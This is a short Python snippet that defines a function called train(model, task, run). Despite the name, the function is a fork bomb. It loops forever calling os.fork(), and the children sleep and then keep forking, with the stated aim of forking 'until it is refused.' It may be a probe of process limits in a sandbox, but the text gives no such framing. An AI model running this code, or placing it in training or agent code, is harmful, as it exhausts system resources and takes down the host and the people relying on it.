# Forks until it is refused.
import os
import time


def train(model, task, run):
    while True:
        if os.fork() == 0:
            time.sleep(600)
